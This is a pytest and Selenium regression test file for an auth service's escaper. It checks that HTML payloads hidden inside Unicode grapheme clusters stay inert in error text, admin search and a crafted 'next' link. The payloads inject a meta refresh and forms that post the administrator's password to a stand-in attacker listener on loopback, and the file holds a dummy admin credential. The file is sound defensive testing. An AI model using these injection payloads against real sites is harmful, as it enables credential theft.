"""Issue 14, item 1, in a real browser: the security review's attacks. Text that hides `"`, `<`
or `>` inside a grapheme cluster (`"` + U+0301, U+0600 + `<`, …) was written raw by the old
escaper; Chromium then saw a second form posting the administrator's password to another host,
or a meta refresh leaving the page. Here "another host" is a listener on loopback that records
whatever reaches it."""
import http.server
import threading
import urllib.parse

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import WebDriverWait

from conftest import follow, free_port

CLUSTERS = ["\"\u0301", ">\u0301", "\u0600<", "\u0d4e\""]


@pytest.fixture(scope="module")
def catcher():
    """A stand-in for the attacker's host: counts every request that reaches it."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def _record(self):
            length = int(self.headers.get("Content-Length") or 0)
            hits.append((self.command, self.path, self.rfile.read(length)))
            self.send_response(200)
            self.end_headers()

        do_GET = do_POST = _record

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


def hostile(evil, cluster):
    return (f"x{cluster}><meta http-equiv=refresh content=\"0;url={evil}/refresh\">"
            f"<form id=evil action={evil}/steal method=post><button id=evil-button>Go</button></form>{cluster}")


def assert_inert(browser, evil, hits):
    # Looking for what must be absent: no implicit wait (it would wait its 5 s for nothing).
    browser.implicitly_wait(0)
    assert browser.current_url.split("?")[0].startswith("http://127.0.0.1"), browser.current_url
    assert not browser.current_url.startswith(evil)
    assert browser.find_elements(By.CSS_SELECTOR, "meta[http-equiv]") == []
    assert browser.find_elements(By.ID, "evil") == []
    assert hits == []
    browser.implicitly_wait(5)


@pytest.mark.parametrize("cluster", CLUSTERS)
def test_a_reflected_error_description_stays_text(browser, usher, catcher, cluster):
    evil, hits = catcher
    payload = hostile(evil, cluster)
    browser.get(f"{usher.base}/demo/callback?error=access_denied&error_description=" + urllib.parse.quote(payload, safe=""))
    WebDriverWait(browser, 10).until(expected_conditions.presence_of_element_located((By.ID, "error-detail")))
    assert_inert(browser, evil, hits)
    # The text is shown as text, accent and all.
    assert "<form id=evil" in browser.find_element(By.ID, "error-detail").text


@pytest.mark.parametrize("cluster", CLUSTERS)
def test_console_search_text_stays_text(signed_in_admin, usher, catcher, cluster):
    browser = signed_in_admin
    evil, hits = catcher
    browser.get(f"{usher.base}/admin/accounts?q=" + urllib.parse.quote(hostile(evil, cluster), safe=""))
    WebDriverWait(browser, 10).until(expected_conditions.presence_of_element_located((By.ID, "q")))
    assert_inert(browser, evil, hits)
    assert browser.find_element(By.ID, "q").get_attribute("value").startswith("x" + cluster + "><meta")


@pytest.fixture(scope="module")
def signed_in_admin(browser, usher):
    browser.delete_all_cookies()
    browser.get(f"{usher.base}/admin/signin")
    browser.find_element(By.ID, "email").send_keys("admin@example.com")
    browser.find_element(By.ID, "password").send_keys("admin-password-123")
    follow(browser, browser.find_element(By.ID, "sign-in"))
    return browser


@pytest.mark.parametrize("cluster", CLUSTERS)
def test_a_crafted_next_link_cannot_take_the_admin_password(browser, usher, catcher, cluster):
    evil, hits = catcher
    payload = (f"/admin/accounts{cluster}><meta http-equiv=refresh content=\"0;url={evil}/refresh\">"
               f"</form><form id=evil action={evil}/steal method=post>"
               f"<input id=email name=email><input id=password name=password type=password><button id=sign-in>Sign in</button></form>{cluster}")
    browser.delete_all_cookies()
    browser.get(f"{usher.base}/admin/signin?next=" + urllib.parse.quote(payload, safe=""))
    WebDriverWait(browser, 10).until(expected_conditions.presence_of_element_located((By.ID, "password")))

    forms = browser.find_elements(By.TAG_NAME, "form")
    assert len(forms) == 1, [f.get_attribute("outerHTML")[:200] for f in forms]
    assert forms[0].get_attribute("action") == f"{usher.base}/admin/signin"
    assert_inert(browser, evil, hits)

    browser.find_element(By.ID, "email").send_keys("admin@example.com")
    browser.find_element(By.ID, "password").send_keys("admin-password-123")
    follow(browser, browser.find_element(By.ID, "sign-in"))
    # The password went to Usher (signed in, back in the console), and nothing reached the other host.
    assert browser.current_url.startswith(f"{usher.base}/admin/"), browser.current_url
    assert "/admin/signin" not in browser.current_url
    assert hits == []
